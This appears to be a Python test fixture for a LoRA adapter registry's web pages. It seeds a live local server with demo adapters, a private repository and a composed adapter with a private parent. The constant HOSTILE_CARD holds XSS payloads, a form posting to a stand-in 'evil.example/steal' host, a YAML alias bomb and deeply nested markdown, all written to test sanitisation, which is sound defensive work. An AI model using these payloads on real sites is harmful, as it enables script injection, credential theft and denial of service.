"""A live registry (the real app under uvicorn in a thread, on loopback) seeded with what the web
pages show: versions and aliases, a private adapter of another user, a composed adapter whose
lineage names a public and a private parent, and a hostile model card."""

from __future__ import annotations

import json
import re
import shutil
from dataclasses import dataclass
from pathlib import Path

import httpx

from lorahive.hub.lineage import Lineage, Parent, write_sidecar
from lorahive.registry.local import LocalRegistry
from tests.models import make_peft_adapter
from tests.registry_helpers import ThreadedServer as LiveServer

CHROMIUM = "/usr/bin/chromium"

SENTIMENT_CARD = """---
library_name: peft
base_model: lorahive-tests/tiny-llama
license: apache-2.0
language: [en]
tags: [sentiment, en]
---

# Sentiment of English product reviews

A rank-8 LoRA on the attention projections that labels a review **positive**, **negative** or
**neutral**. Trained on 12k reviews; evaluated on a held-out set of 2k.

## Evaluation

| split | accuracy | macro F1 |
|---|---:|---:|
| held-out | 0.93 | 0.91 |
| out-of-domain | 0.84 | 0.80 |

## Prompt format

```text
Review: <text>
Sentiment:
```

See the [PEFT documentation](https://huggingface.co/docs/peft) for loading adapters.
"""

TABLE_COLS, TABLE_ROWS = 40, 50
HOSTILE_ROWS = "\n".join("| " + " | ".join(f"r{r}c{c}" for c in range(TABLE_COLS)) + " |"
                         for r in range(TABLE_ROWS))
HOSTILE_CARD = f"""---
tags: [hostile]
a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
e: [*d, *d, *d, *d, *d, *d, *d, *d, *d]
---
# Hostile card

<script>window.__pwned = 1; alert(1)</script>

<img src=x onerror="window.__pwned = 2; alert(2)">

[click me](javascript:window.__pwned=3) and [mixed case](  JaVaScRiPt:alert(11))

<a href="javascript:alert(4)" id="rawlink">raw link</a>

<div onmouseover="window.__pwned = 5" id="cover">hover me</div>

<iframe src="javascript:alert(6)"></iframe>

<svg onload="window.__pwned = 7"><script>window.__pwned = 8</script></svg>

<form action="https://evil.example/steal"><input name="t"><button>go</button></form>

<style>body {{ display: none }}</style>

<meta http-equiv="refresh" content="0;url=javascript:alert(9)">

<object data="javascript:alert(10)"></object>

<details open ontoggle="window.__pwned = 12"><summary>s</summary>d</details>

![img](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

{"[" * 200}brackets{"]" * 200}

| {" | ".join(f"h{c}" for c in range(TABLE_COLS))} |
|{"---|" * TABLE_COLS}
{HOSTILE_ROWS}

{">" * 500} deeply quoted

{"- " * 500}deeply listed
"""


@dataclass
class Seeded:
    alice_token: str
    public: int  # adapters an anonymous visitor sees
    private_repo: str = "alice/secret-project"


# more adapters of a plausible registry (same small weights, their own metadata)
MORE = [
    ("team-nlp/ner-de", "token-classification", ["de", "ner"], "German named entities.", 31),
    ("team-nlp/translate-en-fr", "translation", ["en", "fr"], "English to French.", 12),
    ("acme/support-intent", "text-classification", ["en", "support"],
     "Intent of customer-support tickets.", 57),
    ("acme/legal-clauses", "text-classification", ["en", "legal"],
     "Finds clause types in contracts.", 4),
]


def seed(server: LiveServer, base_dir: Path, work: Path) -> Seeded:
    """Publish the pages' demo registry (tiny real adapters made with PEFT)."""
    work.mkdir(parents=True, exist_ok=True)
    reg = server.admin
    a1 = make_peft_adapter(base_dir, work / "s1", seed=1)
    a2 = make_peft_adapter(base_dir, work / "s2", seed=2, r=8, lora_alpha=16,
                           target_modules=["q_proj", "k_proj", "v_proj", "o_proj"])
    (a2 / "README.md").write_text(SENTIMENT_CARD)
    reg.publish(a1, "admin/sentiment-en", task="text-classification", tags=["en", "sentiment"],
                description="Sentiment of English product reviews.", metrics={"accuracy": 0.91})
    reg.publish(a2, "admin/sentiment-en", task="text-classification", tags=["en", "sentiment"],
                metrics={"accuracy": 0.93, "macro_f1": 0.91})
    reg.set_alias("admin/sentiment-en@1", "prod")
    s = make_peft_adapter(base_dir, work / "sum", seed=4, r=8, lora_alpha=8, use_rslora=True)
    reg.publish(s, "admin/summarise-news", task="summarization", tags=["en", "news"],
                description="Two-sentence summaries of news articles.")
    alice = reg.create_token("alice-dev", scope="write", user="alice")
    alice_reg = LocalRegistry(service=server.service, token=alice.token)
    p = make_peft_adapter(base_dir, work / "secret", seed=5)
    alice_reg.publish(p, "alice/secret-project", task="qa", private=True,
                      description="Alice's private work.")
    c = make_peft_adapter(base_dir, work / "composed", seed=3)
    write_sidecar(c, Lineage("compose:ab", [
        Parent("admin/sentiment-en@2", "2", None, 0.7),
        Parent("alice/secret-project@1", "1", None, 0.3),
        Parent("admin/summarise-news@1", "1", None, -0.2)],
        {"mode": "ab", "optimizer": "NGOpt", "budget": 40, "objective": 1.234,
         "objective_trace": [2.0, 1.5, 1.234]}),
        {"objective": 1.234, "zero_shot_objective": 2.01, "eval_accuracy": 0.8,
         "eval_metric": "exact_match", "eval_n": 20})
    # made public explicitly: a child of a private parent is private unless its publisher says
    reg.publish(c, "admin/reviews-composed", task="qa", tags=["composed"], private=False,
                description="Composed from sentiment and summarisation adapters.")
    h = make_peft_adapter(base_dir, work / "hostile", seed=6)
    (h / "README.md").write_text(HOSTILE_CARD)
    reg.publish(h, "admin/hostile", task="qa", tags=["hostile"])
    admin = server.service.authenticate(server.token)
    for repo, task, tags, text, downloads in MORE:
        ns = repo.split("/")[0]
        if ns not in server.service.owned_namespaces(admin):
            server.service.create_namespace(admin, ns)
        reg.publish(a1, repo, task=task, tags=tags, description=text)
        for _ in range(downloads):
            _count_download(server.service, admin, repo + "@1")
    for _ in range(9):
        _count_download(server.service, admin, "admin/sentiment-en@2")
    return Seeded(alice_token=alice.token, public=4 + len(MORE))


def _count_download(service, who, ref: str) -> None:
    """One whole download of the weights (what the service counts)."""
    dl = service.download(who, ref, "adapter_model.safetensors")
    for _ in dl.body:
        pass


def csrf_field(html: str) -> str:
    m = re.search(r'name="csrf" value="([^"]+)"', html)
    assert m, "no CSRF field in the form"
    return m.group(1)


def sign_in(c: httpx.Client, token: str) -> httpx.Response:
    """Sign a client in through the sign-in form, as a browser does."""
    page = c.get("/-/signin")
    r = c.post("/-/signin", data={"csrf": csrf_field(page.text), "token": token,
                                  "next": "/-/account"})
    assert r.status_code == 303, r.text
    return r


def copy_adapter(src: Path, dst: Path, base_model: str) -> Path:
    """A copy of a PEFT adapter whose config names ``base_model`` as its base."""
    shutil.copytree(src, dst)
    cfg = dst / "adapter_config.json"
    data = json.loads(cfg.read_text())
    data["base_model_name_or_path"] = base_model
    cfg.write_text(json.dumps(data, indent=2))
    return dst
